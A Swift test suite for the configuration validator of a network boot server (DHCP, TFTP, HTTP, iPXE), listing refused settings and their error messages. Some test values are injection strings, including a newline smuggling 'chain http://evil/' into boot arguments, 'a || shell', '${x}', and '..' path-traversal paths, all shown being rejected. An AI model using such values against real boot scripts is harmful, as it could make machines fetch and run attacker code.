import Settings
import Testing

/// What is refused, where, and in which words.
@Suite struct SettingsErrorTests {
    static let single: [Case<String>] = [
        // Numbers and their bounds.
        Case(
            "[tftp]\nmax-window-size = 500",
            "f:2:19: tftp.max-window-size: 500 is too large; allowed is 1 to 256"),
        Case("tftp.max-window-size = 0", "f:1:24: tftp.max-window-size: 0 is too small; allowed is 1 to 256"),
        Case("tftp.max-block-size = 7", "f:1:23: tftp.max-block-size: 7 is too small; allowed is 0, or 8 to 65464"),
        Case(
            "tftp.ports = '5'",
            "f:1:14: tftp.ports: \"5\" is no range of ports; allowed is any, a range such as 30000-30015, or listen"),
        Case("tftp.ports = '9-8'", "f:1:14: tftp.ports: the range 9-8 is empty; write the smaller port first"),
        Case(
            "tftp.max-block-size = 65465",
            "f:1:23: tftp.max-block-size: 65465 is too large; allowed is 0, or 8 to 65464"),
        Case("tftp.workers = -1", "f:1:16: tftp.workers: -1 is too small; allowed is 0 to 64"),
        // Installs.
        Case(
            "install.between = ['22:00']",
            "f:1:19: install.between: write two times of day, from and to, or [] for all day"),
        Case(
            "install.between = ['22:00', '24:00']",
            "f:1:29: install.between: \"24:00\" is no time of day; write hours and minutes, 00:00 to 23:59"),
        Case("install.between = ['05:00', '05:00']", "f:1:29: install.between: \"05:00\" is listed twice"),
        Case(
            "install.between = '22:00'",
            "f:1:19: install.between: expected a list of times of day, found the text \"22:00\"; write [\"22:00\"]"),
        Case("install.patience = '10s'", "f:1:20: install.patience: \"10s\" is too small; allowed is 1m to 1d"),
        Case(
            "[install]\nlongest = '20m'",
            "f:2:11: install.longest: install.patience is 30m, and install.longest 20m: an install would expire before; "
                + "make that longer, or this shorter"),
        // Types.
        Case(
            "tftp.workers = \"4\"",
            "f:1:16: tftp.workers: expected a number (0 to 64), found the text \"4\"; write 4 without quotes"),
        Case("tftp.workers = 1.5", "f:1:16: tftp.workers: expected a number (0 to 64), found a floating-point number"),
        Case("tftp.workers = 2026-01-02", "f:1:20: no setting is a date"),
        Case(
            "dhcp.enabled = \"true\"",
            "f:1:16: dhcp.enabled: expected true or false, found the text \"true\"; write true without quotes"),
        Case("dhcp.enabled = 1", "f:1:16: dhcp.enabled: expected true or false, found the number 1"),
        Case("root = 7", "f:1:8: root: expected a text in quotes (an absolute path), found the number 7"),
        Case(
            "interfaces = \"eth0\"",
            "f:1:14: interfaces: expected a list of interface names, found the text \"eth0\"; write [\"eth0\"]"),
        Case(
            "interfaces = [\"eth0\",\n  7]",
            "f:2:3: interfaces: expected a text in quotes (interface names), found the number 7"),
        Case("tftp = 3", "f:1:8: tftp: expected a table, found the number 3; write [tftp]"),
        Case("[[tftp]]\nworkers = 1", "f:1:3: tftp: expected a table, found a list; write [tftp]"),
        Case("[mode]", "f:1:2: mode: expected a text in quotes (\"observe\", \"armed\", \"frozen\"), found a table"),
        // Names.
        Case(
            "mode = \"amred\"",
            "f:1:8: mode: \"amred\" is unknown; did you mean \"armed\"?; allowed is \"observe\", \"armed\", \"frozen\""),
        Case("interface = []", "f:1:1: unknown key \"interface\"; did you mean \"interfaces\"?"),
        Case("ruote = \"/x\"", "f:1:1: unknown key \"ruote\"; did you mean \"root\"?"),
        Case("[tftp]\n  wrokers = 1", "f:2:3: unknown key \"wrokers\" in [tftp]; did you mean \"workers\"?"),
        Case(
            "[log]\nlevel = \"info\"\nmode = \"armed\"",
            "f:3:1: unknown key \"mode\" in [log]; \"mode\" stands at the top, before the first [table]"),
        Case("max-window-size = 3", "f:1:1: unknown key \"max-window-size\"; \"max-window-size\" belongs into [tftp]"),
        Case("\n[tfpt]\nworkers = 1", "f:2:2: unknown table [tfpt]; did you mean \"tftp\"?"),
        Case("[tftp.more]\nx = 1", "f:1:7: unknown table [tftp.more]"),
        Case("[zebra]", "f:1:2: unknown table [zebra]"),
        Case("log = { levle = 'info' }", "f:1:9: unknown key \"levle\" in [log]; did you mean \"level\"?"),
        // Addresses.
        Case(
            "tftp.listen = \"69\"",
            "f:1:15: tftp.listen: \"69\" is not ADDRESS:PORT; write for example \"0.0.0.0:69\" or \"[::]:69\""),
        Case(
            "tftp.listen = []",
            "f:1:15: tftp.listen: the list is empty; name ADDRESS:PORT, or leave the key out"),
        Case(
            "tftp.listen = \"[fe80::1]:69\"",
            "f:1:15: tftp.listen: fe80::1 is on many links, and one cannot be named here; [::] listens on all of them"),
        Case(
            "tftp.listen = \"[ff02::1]:69\"",
            "f:1:15: tftp.listen: nobody can listen on ff02::1; write an address of this host, or [::] for all"),
        Case(
            "tftp.clients = [\"2001:db8::1/64\"]",
            "f:1:17: tftp.clients: 2001:db8::1 is inside of the network and not its beginning; write \"2001:db8::/64\""),
        Case(
            "http.listen = \"[fe80::1]:80\"",
            "f:1:15: http.listen: fe80::1 is on many links, and one cannot be named here; [::] listens on all of them"),
        Case(
            "http.listen = \"10.0.0.300:80\"",
            "f:1:15: http.listen: \"10.0.0.300:80\" is not ADDRESS:PORT; write for example \"0.0.0.0:69\" or \"[::]:69\""
        ),
        Case("http.listen = \"10.0.0.1:65536\"", "f:1:15: http.listen: \"65536\" is no port; allowed is 1 to 65535"),
        Case("http.listen = \"10.0.0.1:0\"", "f:1:15: http.listen: \"0\" is no port; allowed is 1 to 65535"),
        Case(
            "http.listen = \"239.1.1.1:80\"",
            "f:1:15: http.listen: nobody can listen on 239.1.1.1; write an address of this host, or 0.0.0.0 for all"),
        // Paths.
        Case("root = \"files\"", "f:1:8: root: \"files\" is a relative path; write the whole path, beginning with /"),
        Case("root = \"/\"", "f:1:8: root: \"/\" is the whole host; name a directory of its own"),
        Case("root = \"/srv/../etc\"", "f:1:8: root: \"/srv/../etc\" contains \"..\"; write the path without it"),
        Case("root = \"\"", "f:1:8: root: the path is empty"),
        Case(
            "state = \"/a\\u001b[2J\"",
            "f:1:9: state: \"/a\\u{1B}[2J\" contains a line end or another control character"),
        Case(
            "loaders.bios = \"../x\"",
            "f:1:16: loaders.bios: \"../x\" contains \"..\"; write the path beneath root without it"),
        Case(
            "loaders.bios = 7",
            "f:1:16: loaders.bios: expected a text in quotes (paths), found the number 7"),
        Case("loaders.bios = \"/x/\"", "f:1:16: loaders.bios: \"/x/\" is a directory; name a file"),
        Case(
            "loaders.bios = \"/" + String(repeating: "x", count: 255) + "\"",
            "f:1:16: loaders.bios: the name of the file is longer than 254 octets, which no DHCP message can carry"),
        Case("loaders.bois = \"/x\"", "f:1:9: unknown key \"bois\" in [loaders]; did you mean \"bios\"?"),
        // What ends in the boot script.
        Case(
            "boot.arguments = \"quiet\\nchain http://evil/\"",
            "f:1:18: boot.arguments: line ends and control characters would break the boot script; write all on one line"
        ),
        Case(
            "boot.arguments = \"\"\"\na\nb\"\"\"",
            "f:1:18: boot.arguments: line ends and control characters would break the boot script; write all on one line"
        ),
        Case(
            "boot.arguments = \"a || shell\"",
            "f:1:18: boot.arguments: the word \"||\" would end the command in the boot script; leave it out"),
        Case(
            "boot.arguments = \"a #b\"",
            "f:1:18: boot.arguments: the word \"#b\" would end the command in the boot script; leave it out"),
        Case(
            "boot.kernel = \"/srv/pilotfish/linux\"",
            "f:1:15: boot.kernel: \"/srv/pilotfish/linux\" is an absolute path; write the path beneath root, "
                + "for example \"linux\""),
        Case(
            "boot.kernel = \"../linux\"",
            "f:1:15: boot.kernel: \"../linux\" contains \"..\"; write the path beneath root without it"),
        Case("boot.kernel = \".\"", "f:1:15: boot.kernel: \".\" names no file"),
        Case(
            "boot.kernel = \"a\\rb\"", "f:1:15: boot.kernel: \"a\\rb\" contains a line end or another control character"
        ),
        Case(
            "boot.initrd = [\"ok\", \"my initrd\"]",
            "f:1:22: boot.initrd: the boot script cannot name \"my initrd\"; rename it with letters, digits, and . _ + ~ -"
        ),
        Case(
            "boot.initrd = \"${x}\"",
            "f:1:15: boot.initrd: the boot script cannot name \"${x}\"; rename it with letters, digits, and . _ + ~ -"),
        Case("boot.initrd = [\"a\", \"./a\"]", "f:1:21: boot.initrd: \"./a\" is listed twice"),
        // Networks and the proxy.
        Case(
            "networks = \"10.0.0.0/8\"",
            "f:1:12: networks: expected a list of networks, found the text \"10.0.0.0/8\"; write [\"10.0.0.0/8\"]"),
        Case(
            "networks = [\"10.0.0.0/33\"]",
            "f:1:13: networks: \"10.0.0.0/33\" is no network; write for example \"10.0.0.0/24\", or one address"),
        Case(
            "networks = [\"10.0.0.0/+8\"]",
            "f:1:13: networks: \"10.0.0.0/+8\" is no network; write for example \"10.0.0.0/24\", or one address"),
        Case(
            "networks = [\"10.0.0.5/24\"]",
            "f:1:13: networks: 10.0.0.5 is inside of the network and not its beginning; write \"10.0.0.0/24\""),
        Case("dhcp.standby = 20", "f:1:16: dhcp.standby: 20 is too small; allowed is 0, or 50 to 2000"),
        Case("dhcp.standby = 2001", "f:1:16: dhcp.standby: 2001 is too large; allowed is 0, or 50 to 2000"),
        Case(
            "dhcp.vendor-classes = [\"PXEClient:Arch\"]",
            "f:1:24: dhcp.vendor-classes: PXEClient is always served; leave it out"),
        Case(
            "dhcp.vendor-classes = [\"HTTPClient\"]",
            "f:1:24: dhcp.vendor-classes: HTTPClient is always served; leave it out"),
        Case(
            "dhcp.vendor-classes = [\"\"]",
            "f:1:24: dhcp.vendor-classes: the text is empty and would fit everybody; leave it out"),
        Case(
            "dhcp.vendor-classes = [\"ü\"]", "f:1:24: dhcp.vendor-classes: \"ü\" contains more than printable ASCII"),
        // Accounts and interfaces.
        Case(
            "user = \"root\"",
            "f:1:8: user: \"root\" would keep what the service gives up on purpose; name an ordinary account"),
        Case("user = \"0\"", "f:1:8: user: \"0\" cannot be the name of an account"),
        Case(
            "interfaces = [\"eth 0\"]",
            "f:1:15: interfaces: \"eth 0\" cannot be an interface's name; see \"ip link\" for the names"),
        Case(
            "interfaces = [\"abcdefghijklmnop\"]",
            "f:1:15: interfaces: \"abcdefghijklmnop\" cannot be an interface's name; see \"ip link\" for the names"),
    ]

    @Test(arguments: single)
    func valueIsRefused(_ expected: Case<String>) {
        #expect(complaints(expected.text) == [expected.outcome])
    }

    /// Values that are right by themselves.
    static let together: [Case<String>] = [
        Case(
            "root = \"/data\"\nstate = \"/data/state\"",
            "f:2:9: state: the state directory /data/state lies in the root /data, so every client could fetch the "
                + "inventory; keep them apart"),
        Case(
            "root = \"/var/lib\"",
            "f:1:8: root: the state directory /var/lib/pilotfish lies in the root /var/lib, so every client could fetch "
                + "the inventory; keep them apart"),
        Case(
            "[tftp]\nlisten = \"0.0.0.0:4011\"",
            "f:2:10: tftp.listen: port 4011 belongs to DHCP; choose another, or switch dhcp off"),
        Case(
            "http.listen = \"[::]:80\"",
            "f:1:15: http.listen: offers name an IPv4 address for HTTP, but it listens on IPv6 only; add \"0.0.0.0:80\""
        ),
        Case(
            "dhcp.enabled = false\ntftp.enabled = false\nhttp.enabled = false",
            "f:1:16: dhcp.enabled: dhcp, tftp and http are all switched off, so there is nothing to do; switch one on"),
        Case(
            "loaders.uefi-x64 = \"/x/ipxe.pxe\"",
            "f:1:20: loaders.uefi-x64: /x/ipxe.pxe and /usr/lib/ipxe/ipxe.pxe are both fetched as \"ipxe.pxe\"; "
                + "rename one of them"),
        Case(
            "[[rule]]\nmac = \"52:54:00:*\"\nloader = \"/x/ipxe.efi\"",
            "f:3:10: rule.loader: /x/ipxe.efi and /usr/lib/ipxe/ipxe.efi are both fetched as \"ipxe.efi\"; rename one of them"
        ),
        Case(
            "[[rule]]\nloader = \"/x/a.efi\"\n[firmware-menu]\n[[firmware-menu.item]]\ntext = \"t\"\nloader = \"/y/a.efi\"",
            "f:6:10: firmware-menu.item.loader: /y/a.efi and /x/a.efi are both fetched as \"a.efi\"; rename one of them"
        ),
    ]

    @Test(arguments: together)
    func conflictIsRefused(_ expected: Case<String>) {
        #expect(complaints(expected.text) == [expected.outcome])
    }

    @Test func neighboursOfConflictsAreFine() {
        #expect(complaints("root = \"/var/lib/pilotfish/files\"").isEmpty)
        #expect(complaints("root = \"/data\"\nstate = \"/data-state\"").isEmpty)
        #expect(complaints("dhcp.enabled = false\ntftp.listen = \"0.0.0.0:67\"").isEmpty)
        #expect(complaints("loaders.uefi-x64 = \"/usr/lib/ipxe/ipxe.pxe\"").isEmpty)
        // A file of the root wins over the host's of the same name: nothing is two things.
        #expect(complaints("loaders.uefi-arm64 = \"ipxe.efi\"").isEmpty)
        #expect(complaints("[[rule]]\nloader = \"ipxe.efi\"").isEmpty)
        #expect(complaints("[[rule]]\nloader = \"/usr/lib/ipxe/ipxe.efi\"").isEmpty)
    }

    @Test func everythingIsToldAtOnceInTheOrderOfTheText() {
        let text = """
            user = "root"
            interface = []

            [tftp]
            workers = 99
            listen = "nowhere"

            [boot]
            initrd = ["a b", 7]
            """
        let places = complaints(text).map { $0.prefix(while: { $0 != " " }) }
        #expect(places == ["f:1:8:", "f:2:1:", "f:5:11:", "f:6:10:", "f:9:11:", "f:9:18:"])
    }

    @Test func faultyValueCausesNoConflict() {
        #expect(complaints("root = \"var\"\nstate = \"/srv/pilotfish\"").count == 1)
    }
}
